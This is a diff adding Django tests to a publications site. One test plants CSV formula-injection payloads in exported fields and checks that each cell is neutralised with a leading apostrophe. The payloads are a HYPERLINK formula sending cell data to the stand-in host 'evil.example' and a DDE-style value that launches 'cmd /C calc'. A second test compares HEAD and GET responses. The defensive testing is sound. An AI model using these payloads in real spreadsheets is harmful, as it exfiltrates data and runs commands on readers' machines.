@@ -951,3 +951,67 @@ def test_sector_staff_see_the_directory_named_apart_from_their_sector_overview(c
     staff = client.get(reverse("publications:accessibility")).content.decode()
     assert '<a class="nav-link" href="/directory/">Public directory</a>' in staff
     assert '<a class="nav-link" href="/signatories/">Signatories</a>' in staff
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Details")'
+AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def test_open_data_csv_cells_never_start_a_formula(client, aldermoor, plan, lead_of_org_a):
+    """Issue 11, item 2: the public's spreadsheet must not run what an organisation typed."""
+    Organisation.objects.filter(pk=aldermoor.pk).update(
+        name=FORMULA, short_name=AT_FORMULA, contact_name="+44 1234", webpage="-1"
+    )
+    plan.actions.filter(title="Count technicians in every department").update(
+        title=FORMULA, description=AT_FORMULA, success_criteria="-1+1", comment="+1+1"
+    )
+    publication = services.publish_plan(plan, by=lead_of_org_a)
+    plan_csv = reverse("publications:plan_csv", kwargs={"slug": "aldermoor", "pk": publication.pk})
+
+    signatories = list(
+        csv.DictReader(io.StringIO(fetch(client, reverse("publications:signatories_csv"))[1]))
+    )
+    actions = list(csv.DictReader(io.StringIO(fetch(client, plan_csv)[1])))
+
+    cells = [value for row in signatories + actions for value in row.values()]
+    assert [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
+    aldermoor_row = next(row for row in signatories if row["slug"] == "aldermoor")
+    assert [aldermoor_row[k] for k in ("name", "short_name", "contact_name", "webpage")] == [
+        "'" + FORMULA,
+        "'" + AT_FORMULA,
+        "'+44 1234",
+        "'-1",
+    ]
+    counted = next(row for row in actions if row["action"] == "'" + FORMULA)
+    assert [counted[k] for k in ("description", "success_criteria", "comment")] == [
+        "'" + AT_FORMULA,
+        "'-1+1",
+        "'+1+1",
+    ]
+
+
+def test_head_answers_wherever_get_does(client, everything):
+    """Issue 11, item 7: monitors and link checkers ask with HEAD; they get what GET would say."""
+    slug = everything["plan"].organisation.slug
+    plan = {"slug": slug, "pk": everything["plan"].pk}
+    urls = [
+        reverse("healthz"),
+        reverse("publications:open_data"),
+        reverse("publications:signatories_csv"),
+        reverse("publications:signatories_json"),
+        reverse("publications:plan_csv", kwargs=plan),
+        reverse("publications:plan_json", kwargs=plan),
+        *(
+            reverse("publications:pdf", kwargs={"slug": slug, "pk": everything[key].pk})
+            for key in ("plan", "review", "assessment")
+        ),
+    ]
+
+    def answer(response) -> tuple[int, str, bytes]:
+        body = b"".join(response.streaming_content) if response.streaming else response.content
+        response.close()
+        return response.status_code, response["Content-Type"], body
+
+    answers = {url: answer(client.head(url)) for url in urls}
+    expected = {url: (200, answer(client.get(url))[1], b"") for url in urls}
+    assert answers == expected
